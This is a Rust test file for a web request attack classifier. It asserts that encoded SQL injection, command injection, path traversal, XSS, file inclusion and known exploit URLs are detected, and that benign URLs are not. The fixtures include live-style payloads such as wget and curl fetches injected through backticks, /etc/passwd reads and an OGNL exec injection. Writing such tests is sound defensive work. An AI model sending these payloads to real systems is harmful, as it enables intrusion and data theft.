//! Are attacks seen, and an honest web not?

use super::super::text::plain;
use super::*;

fn classes(target: &str) -> Vec<Class> {
    let mut seen = Vec::new();
    let raw = target.to_ascii_lowercase();
    inspect(&raw, &plain(target.as_bytes()), Place::Target, &mut seen);
    let mut doubt = std::collections::BTreeMap::new();
    for s in seen {
        *doubt.entry(s.class).or_insert(1.0) *= 1.0 - s.weight;
    }
    doubt.into_iter().filter(|(_, d)| *d <= 0.5).map(|(c, _)| c).collect()
}

#[test]
fn attacks_are_seen() {
    use Class::*;
    for (target, class) in [
        (
            "/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit",
            Sql,
        ),
        ("/a?id=1%27%20or%20%271%27=%271", Sql),
        ("/a?id=1%20AND%205948=5948", Sql),
        ("/a?id=1/**/UNION/**/ALL/**/SELECT/**/1", Sql),
        ("/a?user=admin%27--%20", Sql),
        ("/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", Sql),
        ("/a?host=127.0.0.1;cat%20/etc/passwd", Command),
        ("/a?host=127.0.0.1|id", Command),
        ("/a?x=`wget%20http://10.0.0.1/x`", Command),
        ("/a?x=$(curl%20http://h)", Command),
        ("/a?f=../../../../etc/passwd", Traversal),
        ("/a?f=/etc/passwd", Traversal),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Traversal),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Exploit),
        ("/a/..%255c..%255cwinnt/x", Traversal),
        ("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", Exploit),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", Script),
        ("/a?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Script),
        ("/a?page=php://filter/convert.base64-encode/resource=index", Inclusion),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Exploit),
        (
            "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/",
            Exploit,
        ),
        ("/console/css/%252e%252e%252fconsole.portal?_nfpb=true", Exploit),
        ("/mgmt/tm/util/bash", Exploit),
        ("/card_scan_decoder.php?No=30&door=%60wget%20http://a/b%60", Exploit),
        ("/SetupWizard.aspx/a", Exploit),
        ("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=", Exploit),
    ] {
        assert!(classes(target).contains(&class), "{target}: {:?}", classes(target));
    }
}

#[test]
fn an_honest_web_is_not() {
    for target in [
        "/",
        "/search?q=it%27s+100%25+%22sure%22+and+cheap+or+free",
        "/search?q=select+a+gift+from+the+list",
        "/search?q=rock+and+roll+or+1+more",
        "/search?q=union+station+select+hotels",
        "/fonts/css?family=Open+Sans:400|Roboto|Lato;display=swap",
        "/page;jsessionid=ABCDEF?id=5;lang=en;ls=1",
        "/odata/Products?$filter=Name%20eq%20%27Milk%27%20and%20Price%20gt%205&$select=Name,ID",
        "/a/../b/../c.css",
        "/console/login/LoginForm.jsp",
        "/SetupWizard.aspx",
        "/docs/mgmt/tm/util/index.html",
        "/pixel?u=https%3A%2F%2Fa.example%2F%3Fx%3D%257B%2522k%2522%3A%2522v%2522%257D&t=(none)|(not%20set)|direct",
        "/wiki/Sleep_(disambiguation)",
        "/q?sql=benchmark+results&x=<b>bold</b>",
        "/api?json={%22a%22:[1,2],%22s%22:%22a=b;c=d%22}",
        "/maps?d=M10,20L30,40;Z&size=1|2|3&and=1&or=2",
        "/track?ua=Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)",
        "/q?s=AT%26T+%26%26+more&if=a==b",
        "/news?title=Cat+%7C+Dog+%7C+Head+of+state",
        "/api?fields=name|size|id",
        "/list?sort=name;id",
        "/search?q=onload=+handlers+a<b+online=1",
    ] {
        assert_eq!(classes(target), [], "{target}");
    }
}

#[test]
fn markup_and_prose_in_bodies_are_not() {
    for body in [
        "text=<p>Hello <a href='x'>it's</a> me; find me at home | call</p><script src=\"a.js\"></script>",
        "{\"note\":\"SELECT name FROM people; then rest\"}",
        "comment=use rm carefully; echo is nice",
    ] {
        let mut seen = Vec::new();
        inspect(&body.to_ascii_lowercase(), &plain(body.as_bytes()), Place::Body, &mut seen);
        assert!(seen.iter().all(|s| s.weight < 0.5), "{body}: {seen:?}");
    }
}
